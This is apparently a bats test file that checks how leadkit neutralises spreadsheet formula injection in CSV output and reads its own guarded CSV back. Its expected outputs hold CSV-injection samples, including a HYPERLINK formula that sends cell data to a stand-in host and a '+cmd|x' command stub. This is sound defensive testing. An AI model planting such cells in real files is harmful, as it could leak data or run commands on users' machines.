#!/usr/bin/env bats
# Spreadsheet safety: CSV cells a spreadsheet would run as a formula (=, +,
# -, @, tab, CR first; OWASP's CSV injection guidance) get a quote in front
# on output, unless --raw-cells; plain numbers (-5, +49 30 1234567) stay as
# they are; the CSV reader takes the quote off again, so that leadkit reads
# its own output back as it was (lib/io/formula.h).

bats_require_minimum_version 1.5.0

load test_helper/common

setup() {
	F="$FIX/crm/formulas.csv"
}

@test "CSV output: formulas get a quote in front, numbers and phones do not" {
	run --separate-stderr lead_import "$F"
	assert_success
	run cut -d, -f1-3 <<<"$output"
	assert_output - <<-'EOF'
	email,company,note
	a@acme-example.de,"'=HYPERLINK(""http://x.example/?""&A1)",-5
	b@acme-example.de,'@SUM(1+1),+49 30 1234567
	c@acme-example.de,'+cmd|x,-2.5
	d@acme-example.de,'=already,'-x
	EOF
}

@test "CSV output: a tab or a CR first is guarded too; a quote in the middle is not" {
	printf 'email,note\nx@acme-example.de,"\t=1+1"\ny@acme-example.de,"\r=2"\nz@acme-example.de,it'"'"'s =ok\n' >"$BATS_TEST_TMPDIR/t.csv"
	run --separate-stderr lead_import "$BATS_TEST_TMPDIR/t.csv"
	assert_success
	run cut -d, -f1-2 <<<"$output"
	assert_line --index 1 "x@acme-example.de,'	=1+1"
	assert_line --index 2 "y@acme-example.de,\"'"$'\r'"=2\""
	assert_line --index 3 "z@acme-example.de,it's =ok"
}

@test "--raw-cells: cells are written as they are" {
	run --separate-stderr lead_import --raw-cells "$F"
	assert_success
	run cut -d, -f2 <<<"$output"
	assert_line --index 2 '@SUM(1+1)'
	assert_line --index 3 '+cmd|x'
}

@test "NDJSON output is never changed" {
	run --separate-stderr lead_import -o ndjson "$F"
	assert_success
	run jq -c '[.company, .note]' <<<"$output"
	assert_output - <<-'EOF'
	["=HYPERLINK(\"http://x.example/?\"&A1)","-5"]
	["@SUM(1+1)","+49 30 1234567"]
	["+cmd|x","-2.5"]
	["=already","-x"]
	EOF
}

@test "reading leadkit's own CSV: the quote comes off, the round trip is exact" {
	lead_import -o ndjson "$F" >"$BATS_TEST_TMPDIR/a.ndjson"
	lead_import "$F" | lead_import -o ndjson >"$BATS_TEST_TMPDIR/b.ndjson"
	run jq -c '[.company, .note]' "$BATS_TEST_TMPDIR/b.ndjson"
	assert_line --index 0 '["=HYPERLINK(\"http://x.example/?\"&A1)","-5"]'
	run diff <(jq -c '[.company, .note]' "$BATS_TEST_TMPDIR/a.ndjson") \
	    <(jq -c '[.company, .note]' "$BATS_TEST_TMPDIR/b.ndjson")
	assert_success
	# the same CSV written twice is the same
	lead_import "$F" >"$BATS_TEST_TMPDIR/1.csv"
	lead_import "$BATS_TEST_TMPDIR/1.csv" | cut -d, -f1-3 >"$BATS_TEST_TMPDIR/2.csv"
	run diff <(cut -d, -f1-3 "$BATS_TEST_TMPDIR/1.csv") "$BATS_TEST_TMPDIR/2.csv"
	assert_success
}

@test "reading: a quote before anything else stays; --raw-cells reads every quote as written" {
	printf "email,note\nx@acme-example.de,'hello\ny@acme-example.de,'-5\nz@acme-example.de,'=1\n" >"$BATS_TEST_TMPDIR/q.csv"
	run --separate-stderr lead_import -o ndjson "$BATS_TEST_TMPDIR/q.csv"
	assert_success
	run jq -r .note <<<"$output"
	assert_output $'\'hello\n\'-5\n=1'
	run --separate-stderr lead_import -o ndjson --raw-cells "$BATS_TEST_TMPDIR/q.csv"
	run jq -r .note <<<"$output"
	assert_output $'\'hello\n\'-5\n\'=1'
}

@test "lead run and the pipe write the same guarded CSV" {
	lead_import "$F" | lead-score -r "$BATS_TEST_DIRNAME/../share/leadkit/scoring/b2b.rules" \
	    >"$BATS_TEST_TMPDIR/pipe.csv"
	lead run import --as-of "$AS_OF" "$F" then score -r "$BATS_TEST_DIRNAME/../share/leadkit/scoring/b2b.rules" \
	    >"$BATS_TEST_TMPDIR/run.csv"
	run diff <(cut -d, -f1-3 "$BATS_TEST_TMPDIR/pipe.csv") <(cut -d, -f1-3 "$BATS_TEST_TMPDIR/run.csv")
	assert_success
	run grep -c "'@SUM" "$BATS_TEST_TMPDIR/run.csv"
	assert_output 1
}

@test "--to: the CRM's file is guarded as well" {
	run --separate-stderr lead_import --to hubspot "$F"
	assert_success
	assert_output --partial "'@SUM(1+1)"
}
